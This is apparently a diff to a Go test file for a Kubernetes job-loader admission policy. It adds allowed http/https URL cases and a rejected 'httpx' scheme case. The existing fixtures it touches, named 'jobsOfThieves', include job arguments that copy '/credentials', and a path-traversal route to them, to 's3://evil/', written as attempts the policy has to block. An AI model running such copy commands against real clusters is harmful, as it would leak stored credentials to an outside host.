@@ -69,6 +69,9 @@ func (k *kubelets) testLoaderPolicies(t *testing.T) {
 	require.True(t, apierrors.IsAlreadyExists(err), "%v", err)
 	require.NoError(t, try(upload))
 	require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9") }))
+	for _, url := range []string{"https://h/l", "http://h/l"} {
+		require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); args("--", url, "/data")(j) }), url)
+	}
 
 	for message, changes := range jobsOfThieves {
 		for name, change := range changes {
@@ -219,6 +222,7 @@ var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 		"way out":        args("put", "--", "/data/../credentials", "s3://evil/"),
 		"mixed up":       args("put", "/credentials", "--", "/data", "s3://evil/"),
 		"another verb":   args("help"),
+		"another scheme": args("--", "httpx://h/l", "/data"),
 	},
 	"mount the one claim of their replica": {
 		"path": func(j *batchv1.Job) {
